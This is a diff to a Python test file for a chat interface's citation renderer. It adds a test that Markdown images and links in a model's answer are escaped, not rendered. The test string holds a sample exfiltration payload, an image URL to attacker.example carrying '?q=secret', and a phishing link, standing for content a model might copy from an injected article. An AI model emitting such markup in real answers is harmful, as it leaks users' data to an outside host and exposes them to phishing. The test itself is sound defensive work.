@@ -115,8 +115,21 @@ def test_citation_markers_link_to_their_cards() -> None:
     text = "Geneva [1], then Brussels [2] and <b>Vienna</b> [7]."
     linked = link_citations(text, turn=4, cited=[1, 2])
     assert "[\\[1\\]](#src-4-1)" in linked and "[\\[2\\]](#src-4-2)" in linked
-    assert "[7]" in linked and "#src-4-7" not in linked  # not a citation: left as written
+    assert "\\[7\\]" in linked and "#src-4-7" not in linked  # not a citation: shown as text
     assert "&lt;b&gt;Vienna&lt;/b&gt;" in linked
+
+
+def test_answer_text_cannot_make_images_or_links() -> None:
+    """A model repeating an article's Markdown image or link must not make the browser fetch or link it."""
+    from markdown_it import MarkdownIt
+
+    text = (
+        "See ![x](https://attacker.example/?q=secret) and [click](https://phish.example) [1]. \\[a](b) [r][1]"
+    )
+    rendered = MarkdownIt().render(link_citations(text, turn=0, cited=[1]))
+    assert "<img" not in rendered
+    assert set(re.findall(r'(?:href|src)="([^"]*)"', rendered)) == {"#src-0-1"}  # only citations link
+    assert "![x](https://attacker.example/?q=secret)" in rendered  # shown as the text it was
 
 
 def test_sources_panel_lists_one_card_per_citation_and_what_was_searched() -> None:
